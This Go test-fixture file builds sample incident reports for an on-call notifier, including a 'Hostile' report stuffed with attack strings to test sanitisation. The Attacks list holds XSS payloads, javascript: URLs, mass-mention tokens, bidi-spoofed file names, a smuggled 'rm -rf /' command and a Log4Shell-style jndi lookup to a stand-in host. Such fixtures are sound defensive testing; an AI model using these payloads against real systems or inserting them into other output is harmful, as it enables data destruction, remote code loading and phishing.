package notifiertest

import (
	"strings"
	"time"

	"github.com/oncall-copilot/oncall/pkg/event"
)

// Onset is when the incident of [Report] began.
var Onset = time.Date(2026, 11, 21, 2, 51, 0, 0, time.UTC)

// Report is a report as the reasoner drafts them: revision 1 of an incident
// that pages.
func Report() event.Report {
	checkout := event.Entity{Cluster: "prod-eu-1", Namespace: "shop", Kind: "Deployment", Name: "checkout"}
	return event.Report{
		Incident: "9kdq3vz7m2xha", Revision: 1, IncidentRevision: 1, State: event.Open, Priority: event.P1, Cluster: "prod-eu-1",
		Entity: checkout, Owner: event.Owner{Team: "payments", Rule: "label team on shop/deployment/checkout"},
		Onset: Onset, Time: Onset.Add(2 * time.Minute),
		Headline: "P1 prod-eu-1 shop/deployment/checkout: 12% of requests fail (burn 18x) since 02:51 @payments",
		TLDR:     "12% of requests to shop/deployment/checkout fail since 02:51. All 6 pods of v412 were OOMKilled; v412 halved the memory limit.",
		Symptom:  "12% of requests fail, burn 18x (1h)",
		Findings: []event.Finding{{
			ID: "f1", Rule: "oom-killed", Entity: checkout, Urgency: event.Broken, Severity: event.Critical, Title: "OOMKilled 6 of 6 pods from 02:50",
			Confidence: event.High, Evidence: []string{"E3"},
		}},
		Causes: []event.Cause{
			{Text: "rollout checkout v412 at 02:48", Entity: checkout, Confidence: event.High, Evidence: []string{"E1", "E3"}},
			{Text: "memory limit 512Mi -> 256Mi", Entity: checkout, Confidence: event.Medium, Evidence: []string{"E1"}},
		},
		Checked: []string{"node", "DNS", "database"},
		Unknown: []string{"no traces: none are collected"},
		Checks: []event.Check{
			{Why: "what the rollout changed", Command: "kubectl --context prod-eu-1 -n shop rollout history deploy/checkout"},
			{Why: "memory against its limit", Command: `promtool query instant http://prometheus:9090 'container_memory_working_set_bytes{namespace="shop"} > 2.5e8'`},
		},
		Rollback: []event.Check{{Why: "back to v411", Command: "kubectl --context prod-eu-1 -n shop rollout undo deploy/checkout"}},
		Status:   "Some checkouts fail since 02:51 UTC. We are looking into it.",
		Alerts:   []string{"KubePodCrashLooping x6"}, Firing: true,
		Links: []event.Link{
			{Title: "Graph", URL: "https://grafana.example.com/explore?left=%7B%22q%22:%22a|b%22%7D"},
			{Title: "Logs", URL: "https://grafana.example.com/explore?logs"},
		},
		Runbooks: []event.Runbook{{Title: "OOMKilled", Path: "https://runbooks.example.com/oom"}},
		Evidence: []event.Evidence{
			{ID: "E1", Source: "kubernetes", Query: "rollout history", Excerpt: []string{"v412 02:48 image checkout:412, memory 256Mi"}},
			{ID: "E2", Source: "loki", Query: `{namespace="shop"}`, Failed: "loki answered 429"},
			{ID: "E3", Source: "prometheus", Query: "kube_pod_container_status_last_terminated_reason", Excerpt: []string{"OOMKilled 6"}},
		},
		Timeline: []event.TimelineEntry{{Time: Onset.Add(-3 * time.Minute), Entity: checkout, What: "rollout v412"}},
		Score:    31.5, Reason: "opened", PolicyHash: "0123456789ab",
	}
}

// Notification is one of a report, for the channel "test".
func Notification(r event.Report, update string) event.Notification {
	return event.Notification{Incident: r.Incident, Revision: r.Revision, Channel: "test", Route: "default", Update: update, Report: r}
}

// Resolved is the end of the incident of a report, as its next revision.
func Resolved(r event.Report) event.Report {
	end := r.Onset.Add(21 * time.Minute)
	r.Revision, r.State, r.ResolvedAt, r.Time, r.Reason = r.Revision+1, event.Resolved, &end, end, "resolved"
	r.TLDR = "Requests to shop/deployment/checkout succeed again since 03:12."
	return r
}

// Digest is a digest's report.
func Digest() event.Report {
	r := Report()
	due := time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC)
	return event.Report{
		Incident: "digest-2026-11-22", Revision: 1, State: event.Resolved, Priority: event.P4, Cluster: r.Cluster,
		Entity: event.Entity{Kind: "Cluster", Name: r.Cluster}, Onset: due.Add(-24 * time.Hour), Time: due, Reason: "digest",
		Headline: "Digest prod-eu-1 2026-11-22: 1 would have paged, 1 held back",
		TLDR:     "Incidents from 2026-11-21 08:00 to 2026-11-22 08:00 UTC of which this channel was told nothing. Mode is shadow: nothing is sent but this.",
		Status:   "Digest.", Findings: []event.Finding{}, Causes: []event.Cause{}, Checks: []event.Check{}, Evidence: []event.Evidence{},
		Timeline: []event.TimelineEntry{
			{Time: due, What: "Would have paged (1)"},
			{Time: r.Time, What: r.Headline, Ref: r.Incident},
			{Time: due, What: "Held back (1)"},
			{Time: r.Time, What: "P4 prod-eu-1 batch/cronjob/nightly: CPU is unusual since 01:00 (no symptom)", Ref: "5paxxxxxxxxxx"},
		},
	}
}

// Attacks are what somebody who can write a log line may try.
var Attacks = []string{
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \u009b31m",
	"<!channel> <!here> <!everyone> <@U0123456789> <#C0123456789> @here @channel @everyone",
	"<script>alert(1)</script><img src=x onerror=alert(1)> <at>everyone</at>",
	"[click](https://evil.example/) ![x](https://evil.example/x.png) \\[y](https://evil.example/) <https://evil.example/|click> https://evil.example/",
	"`; rm -rf / #` ```code``` *bold* _it_ ~no~ | table | # heading\n# heading\n> quote\n- list",
	"invoice\u202efdp.exe \u2066hidden\u2069 zero\u200bwidth \ufeff",
	"{{ .Values.secret }} ${jndi:ldap://evil.example/a} %s %n \x00 null \xff\xfe",
}

// Hostile is a report whose every text is an attack, and some of them 100 KiB
// long.
func Hostile() event.Report {
	all := strings.Join(Attacks, " ")
	long := all + strings.Repeat(" "+all, 100<<10/len(all))
	r := Report()
	evil := event.Entity{Cluster: all, Namespace: all, Kind: "Pod", Name: all}
	r.Cluster, r.Entity, r.Owner.Team, r.Headline, r.TLDR, r.Symptom, r.Status = all, evil, all, all, long, long, long
	r.Findings, r.Causes, r.Evidence, r.Checks, r.Rollback, r.Timeline, r.Unknown, r.Alerts = nil, nil, nil, nil, nil, nil, nil, nil
	pad := long
	for i := range 60 {
		if long = all; i < 2 {
			long = pad
		}
		r.Findings = append(r.Findings, event.Finding{Entity: evil, Title: long, Detail: long, Confidence: event.High, Evidence: []string{all}})
		r.Causes = append(r.Causes, event.Cause{Text: long, Entity: evil, Confidence: event.High, Evidence: []string{all}})
		r.Evidence = append(r.Evidence, event.Evidence{ID: all, Source: all, Query: long, Excerpt: []string{long}, Failed: ""})
		r.Checks = append(r.Checks, event.Check{Why: long, Command: long})
		r.Rollback = append(r.Rollback, event.Check{Why: long, Command: long})
		r.Unknown = append(r.Unknown, long)
		r.Alerts = append(r.Alerts, long)
		r.Links = append(r.Links,
			event.Link{Title: all, URL: "javascript:alert(1)"},
			event.Link{Title: all, URL: "https://grafana.example.com/?q=" + all},
			event.Link{Title: all, URL: "https://grafana.example.com/?q=" + long})
		r.Timeline = append(r.Timeline, event.TimelineEntry{Entity: evil, What: all}, event.TimelineEntry{What: long, Ref: "9kdq3vz7m2xha"})
	}
	r.Runbooks = []event.Runbook{{Title: all, Path: "javascript:alert(1)"}, {Title: all, Path: "https://runbooks.example.com/" + all}}
	return r
}
